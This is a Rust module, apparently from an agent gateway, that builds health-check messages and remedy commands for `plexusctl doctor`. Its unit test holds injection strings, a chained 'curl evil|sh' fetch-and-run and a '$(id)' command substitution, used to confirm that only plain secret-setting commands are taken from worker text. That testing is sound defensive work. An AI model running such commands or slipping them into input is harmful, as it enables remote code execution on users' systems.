//! What is not well with a gateway, and the command that helps: `plexusctl doctor` and the console's Health say it in these
//! words.
//!
//! Must not know: how it is found out, other than [`Free::at`].

use crate::{
    sources::Stopped,
    status::{LedgerCondition, LedgerState, RestingSource},
};
use nix::sys::statvfs::statvfs;
use plexus_protocol::{SourceId, shell};
use std::path::Path;

/// Something that is not well.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Trouble {
    /// What it is.
    pub found: String,
    /// A command that helps, or shows more.
    pub remedy: String,
    /// Whether something fails by it already.
    pub fails: bool,
}

impl Trouble {
    fn new(found: impl Into<String>, remedy: impl Into<String>) -> Self {
        Self {
            found: found.into(),
            remedy: remedy.into(),
            fails: true,
        }
    }
}

/// All agents are paused.
#[must_use]
pub fn paused() -> Trouble {
    Trouble {
        fails: false,
        ..Trouble::new("all agents are paused", "plexusctl resume")
    }
}

/// The workers of a source run without a sandbox.
#[must_use]
pub fn unsandboxed(source: &SourceId) -> Trouble {
    Trouble::new(
        format!("{source} RUNS WITHOUT A SANDBOX, as --unsandboxed-i-understand says"),
        format!("plexusctl sources disable {source}"),
    )
}

/// This system cages no worker.
#[must_use]
pub fn uncaged(why: Option<&str>) -> Trouble {
    Trouble::new(
        why.unwrap_or("workers cannot be caged here"),
        "cat /sys/kernel/security/lsm; uname -r",
    )
}

/// A source whose sandbox holds, and which does not serve, or not all, as `found` says.
#[must_use]
pub fn not_serving(source: &str, found: &str) -> Trouble {
    let test = || match is_for_room(found) {
        true => "df -h".to_owned(),
        false => format!("plexusctl sources test {}", shell::quote(source)),
    };
    let remedy = secret_command(found, source).map_or_else(test, str::to_owned);
    Trouble::new(found, remedy)
}

/// A source that the owner has disabled.
#[must_use]
pub fn disabled(source: &SourceId) -> Trouble {
    Trouble {
        fails: false,
        ..Trouble::new("disabled", format!("plexusctl sources enable {source}"))
    }
}

/// A source of which nothing is started: its code changed.
#[must_use]
pub fn stopped(source: &SourceId, stopped: &Stopped) -> Trouble {
    let mut found: Vec<_> = stopped.found.iter().map(|rule| code(rule)).collect();
    // One file may be several programs of a source.
    found.dedup();
    let found = found.join("; ");
    Trouble::new(
        format!("is stopped: what it runs is not what you agreed to: {found}"),
        match &stopped.pending_id {
            None => format!("plexusctl sources resume {source}"),
            Some(card) => format!("plexusctl approvals show {card}"),
        },
    )
}

/// A rule of a source's code in words, without the name that its workers have for it.
fn code(rule: &str) -> String {
    let of = |kind: &str| rule.strip_prefix(kind)?.split_once(' ')?.1.rsplit_once(' ');
    if let Some((path, digest)) = of("program ").or_else(|| of("script ")) {
        format!("{path} with SHA-256 {digest}")
    } else if let Some((path, digest)) = of("files ") {
        format!("the files in {path}, together with the digest {digest}")
    } else {
        match rule.strip_prefix("changeable ") {
            Some(what) => format!("agents can change {what}"),
            None => rule.to_owned(),
        }
    }
}

/// A source that changed and waits for the owner, and is not stopped.
#[must_use]
pub fn resting(resting: &RestingSource) -> Trouble {
    let found = match resting.grants {
        0 => "changed tools of it are hidden until you decide".to_owned(),
        n => format!("grants of it that are suspended until you decide: {n}"),
    };
    let remedy = match &resting.pending_id {
        None => "plexusctl approvals list".to_owned(),
        Some(card) => format!("plexusctl approvals show {card}"),
    };
    Trouble {
        fails: false,
        ..Trouble::new(found, remedy)
    }
}

/// The command that sets a secret of `source`, where `reason` ends with just that. A reason may have words of a worker in it:
/// no other command is taken from one.
#[must_use]
pub fn secret_command<'r>(reason: &'r str, source: &str) -> Option<&'r str> {
    let at = reason.rfind(": plexusctl ")? + 2;
    let command = &reason[at..];
    let name = command.strip_prefix(&format!("plexusctl sources secret {source} "))?;
    let is_plain = |b: u8| b.is_ascii_alphanumeric() || b"_-".contains(&b);
    (!name.is_empty() && name.bytes().all(is_plain)).then_some(command)
}

/// The audit log of the gateway of this state directory does not take every event.
#[must_use]
pub fn log(ledger: &LedgerState, home: &Path) -> Option<Trouble> {
    let why = ledger.reason.as_deref().unwrap_or("no reason is known");
    match ledger.condition {
        LedgerCondition::Open => None,
        LedgerCondition::DiskFull => {
            Some(Trouble::new(format!("the disk is full: {why}"), df(home)))
        }
        LedgerCondition::Closed => Some(Trouble::new(
            format!("it takes no event: {why}"),
            "plexusctl logs --level warn",
        )),
    }
}

/// The audit log and the state differ, or its chain is broken.
#[must_use]
pub fn unsound(found: &str) -> Trouble {
    Trouble::new(found, "plexusctl audit verify")
}

/// Room below which something is said, in bytes: what the ledger sets aside, twice; and some days of use.
const ROOM: (u64, u64) = (32 << 20, 256 << 20);

/// Files below which something is said: what a start and some requests make.
const FEW_FILES: u64 = 100;

/// The room on a disk.
#[derive(Clone, Copy)]
pub struct Free {
    /// Bytes.
    pub bytes: u64,
    /// Files that can be made; none where the disk does not count them.
    pub files: Option<u64>,
}

impl Free {
    /// The room on a folder's disk. Blocks on the disk.
    ///
    /// # Errors
    /// The folder is not there, or the disk does not answer.
    #[allow(
        clippy::unnecessary_cast,
        reason = "the counts are of other widths on macOS"
    )]
    pub fn at(folder: &Path) -> nix::Result<Self> {
        statvfs(folder).map(|disk| Self {
            bytes: disk.blocks_available() as u64 * disk.fragment_size() as u64,
            files: (disk.files() > 0).then(|| disk.files_available() as u64),
        })
    }
}

/// The room on the disk of a state directory in words, and the trouble where it is little.
#[must_use]
pub fn disk(home: &Path, free: Free) -> (String, Option<Trouble>) {
    // A disk that makes room for files as it goes has few of them wherever it is full.
    let few_files = free.files.filter(|files| *files < FEW_FILES);
    if let Some(files) = few_files.filter(|_| free.bytes >= ROOM.0) {
        let found = format!("{files} more files can be made");
        let remedy = format!("df -i {}", shell::quote(&home.to_string_lossy()));
        return (found.clone(), Some(Trouble::new(found, remedy)));
    }
    let free = free.bytes;
    let found = match free >> 20 {
        mb @ ..10_000 => format!("{mb} MB free"),
        mb => format!("{} GB free", mb >> 10),
    };
    let few = (free < ROOM.1).then(|| Trouble {
        fails: free < ROOM.0,
        ..Trouble::new(found.clone(), df(home))
    });
    (found, few)
}

/// Whether a source is away because a disk has no room, by the system's words.
#[must_use]
pub fn is_for_room(reason: &str) -> bool {
    reason.contains("No space left on device")
}

/// Shows how much room there is.
#[must_use]
pub fn df(home: &Path) -> String {
    format!("df -h {}", shell::quote(&home.to_string_lossy()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn secret_alone_is_taken_from_a_reason() {
        let secret = "token is not set: plexusctl sources secret home token";
        let command = "plexusctl sources secret home token";
        assert_eq!(secret_command(secret, "home"), Some(command));
        assert_eq!(not_serving("home", secret).remedy, command);
        let full = "the cage's test: No space left on device";
        assert_eq!(not_serving("home", full).remedy, "df -h");
        for words in [
            "x: plexusctl resume",
            "x: plexusctl sources secret other token",
            "x: plexusctl sources secret home token && curl evil|sh",
            "x: plexusctl sources secret home $(id)",
        ] {
            assert_eq!(secret_command(words, "home"), None, "{words}");
            let test = "plexusctl sources test home";
            assert_eq!(not_serving("home", words).remedy, test);
        }
    }

    #[test]
    fn stopped_source_names_its_files() {
        let stopped = Stopped {
            at: plexus_protocol::Timestamp(0),
            pending_id: None,
            found: [
                "program reader-1 /a b/wc 00",
                "program writer-1 /a b/wc 00",
                "files code /lib 11",
            ]
            .map(str::to_owned)
            .to_vec(),
            agreed: Vec::new(),
        };
        let words = SourceId::parse("words").expect("an id");
        let trouble = super::stopped(&words, &stopped);
        let found = "what it runs is not what you agreed to: /a b/wc with SHA-256 00; the files in /lib, together with the digest 11";
        assert_eq!(trouble.found, format!("is stopped: {found}"));
        assert_eq!(trouble.remedy, "plexusctl sources resume words");
    }

    #[test]
    fn little_room_is_said() {
        let disk = |bytes, files| disk(Path::new("/a home"), Free { bytes, files });
        let fails = |bytes| disk(bytes, None).1.map(|few| few.fails);
        let all = [1 << 20, 100 << 20, 1 << 30].map(fails);
        assert_eq!(all, [Some(true), Some(false), None]);
        for files in [0, FEW_FILES] {
            let few = disk(1 << 20, Some(files)).1.expect("a trouble");
            assert_eq!(few.remedy, "df -h '/a home'");
        }
        let none = disk(1 << 30, Some(0)).1.expect("a trouble");
        assert_eq!(none.remedy, "df -i '/a home'");
        let found = |bytes| disk(bytes, None).0;
        assert_eq!(found(9_000 << 20), "9000 MB free");
        assert_eq!(found(63_323 << 20), "61 GB free");
    }
}
